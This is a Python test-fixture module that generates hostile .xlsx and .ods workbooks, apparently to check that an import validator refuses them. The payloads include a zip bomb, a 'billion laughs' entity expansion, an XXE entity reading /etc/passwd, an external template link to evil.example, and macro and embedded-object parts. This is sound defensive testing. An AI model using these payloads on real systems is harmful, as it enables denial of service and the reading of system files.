"""Hostile workbooks, made here part by part: `HOSTILE` name → (bytes, words of the refusal)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import xlsxwriter

HEADER = ("دستگاه", "برنامه", "مبلغ")


def honest(*more: tuple[str, bytes]) -> bytes:
    """A small workbook; with parts that an honest one does not have."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEADER)
    sheet.write_row(1, 0, ("1001", "101", 5))
    book.close()
    return changed(out.getvalue(), *more)


def changed(content: bytes, *more: tuple[str, bytes]) -> bytes:
    """The same archive with parts replaced or added."""
    out = io.BytesIO()
    new = dict(more)
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in old.namelist():
            made.writestr(name, new.pop(name, old.read(name)))
        for name, part in new.items():
            made.writestr(name, part)
    return out.getvalue()


def cell_at(reference: str) -> bytes:
    """One cell far away: a reader that trusts it makes room for everything before it."""
    cells = (
        f'<row r="1"><c r="A1"><v>1</v></c></row><row r="{reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}">'
    )
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f'{cells}<c r="{reference}"><v>1</v></c></row></sheetData></worksheet>'
    )
    return honest(("xl/worksheets/sheet1.xml", sheet.encode()))


def bomb() -> bytes:
    """A few hundred kilobytes that unpack to gigabytes of empty cells."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(honest())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in old.namelist():
            if name != "xl/worksheets/sheet1.xml":
                made.writestr(name, old.read(name))
        with made.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(b"<worksheet><sheetData>")
            block = b"<row><c/></row>" * 70_000
            for _ in range(400):
                part.write(block)
            part.write(b"</sheetData></worksheet>")
    return out.getvalue()


def shared_bomb() -> bytes:
    return honest(("xl/sharedStrings.xml", b"<sst><si><t>" + b"a" * 60_000_000 + b"</t></si></sst>"))


def entities() -> bytes:
    """A billion laughs in the strings."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY l0 "ha">{levels}]><sst><si><t>&l9;</t></si></sst>'
    return honest(("xl/sharedStrings.xml", text.encode()))


def outside_entity() -> bytes:
    text = '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><s><si><t>&x;</t></si></s>'
    return honest(("xl/sharedStrings.xml", text.encode()))


def macro_enabled() -> bytes:
    with zipfile.ZipFile(io.BytesIO(honest())) as book:
        types = book.read("[Content_Types].xml")
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return honest(
        ("[Content_Types].xml", types.replace(plain, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"))
    )


def outside_link() -> bytes:
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/a.xltm" TargetMode="External"/></Relationships>'
    )
    return honest(("xl/worksheets/_rels/sheet1.xml.rels", rels.encode()))


def repeated_ods() -> bytes:
    """An ods of one row that says it stands a million times, with as many columns."""
    cell = (
        '<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="16384"/>'
    )
    return ods(f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>')


def ods(rows: str, *more: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="برگه">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        made.writestr("content.xml", content)
        made.writestr("META-INF/manifest.xml", manifest)
        for name, part in more:
            made.writestr(name, part)
    return out.getvalue()


def ods_row(*cells: object) -> str:
    """One row of an ods sheet: numbers as numbers, the rest as text."""
    made = "".join(
        f'<table:table-cell office:value-type="float" office:value="{cell}"><text:p>{cell}</text:p></table:table-cell>'
        if isinstance(cell, int | float)
        else f'<table:table-cell office:value-type="string"><text:p>{cell}</text:p></table:table-cell>'
        for cell in cells
    )
    return f"<table:table-row>{made}</table:table-row>"


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "bomb.xlsx": (bomb, "بزرگ"),
    "strings.xlsx": (shared_bomb, "بزرگ"),
    "far.xlsx": (lambda: cell_at("XFD1048576"), "بزرگ"),
    "wide.xlsx": (lambda: cell_at("XFD190000"), "بزرگ"),
    "long.xlsx": (lambda: cell_at("GR199999"), "بزرگ"),
    "entities.xlsx": (entities, "ماکرو|خوانا"),
    "file.xlsx": (outside_entity, "ماکرو|خوانا"),
    "macro.xlsx": (lambda: honest(("xl/vbaProject.bin", b"x")), "ماکرو"),
    "macros.xlsx": (macro_enabled, "ماکرو"),
    "link.xlsx": (lambda: honest(("xl/externalLinks/externalLink1.xml", b"<x/>")), "پیوند"),
    "template.xlsx": (outside_link, "پیوند"),
    "object.xlsx": (lambda: honest(("xl/embeddings/oleObject1.bin", b"x")), "جاسازی"),
    "repeated.ods": (repeated_ods, "بزرگ|خوانا"),
    "basic.ods": (lambda: ods(ods_row(*HEADER), ("Basic/Standard/script-lb.xml", b"<x/>")), "ماکرو"),
}
